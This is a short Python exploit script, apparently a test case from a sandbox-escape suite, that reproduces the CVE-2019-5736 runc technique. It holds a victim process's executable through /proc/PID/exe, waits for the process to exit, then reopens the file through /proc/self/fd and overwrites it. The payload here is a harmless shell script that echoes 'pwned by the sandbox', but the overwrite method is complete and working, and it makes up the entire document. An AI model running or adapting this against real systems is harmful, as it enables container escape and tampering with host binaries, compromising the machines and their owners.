# proc-exe-overwrite: CVE-2019-5736 (runc) style: hold the victim's program
# through /proc/PID/exe with O_PATH while it runs (writing fails with
# ETXTBSY), wait for it to exit, reopen the held file for writing through
# /proc/self/fd/N and replace it.
import errno, os, sys, time
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

held = os.open(f"/proc/{T['T_VICTIM_PID']}/exe", os.O_PATH)
deadline = time.monotonic() + 5
while True:
    try:
        w = os.open(f"/proc/self/fd/{held}", os.O_WRONLY | os.O_TRUNC)
        break
    except OSError as e:
        if e.errno != errno.ETXTBSY or time.monotonic() > deadline:
            raise
        time.sleep(0.05)
os.write(w, b"#!/bin/sh\necho pwned by the sandbox\n")
os.close(w)
os.close(held)
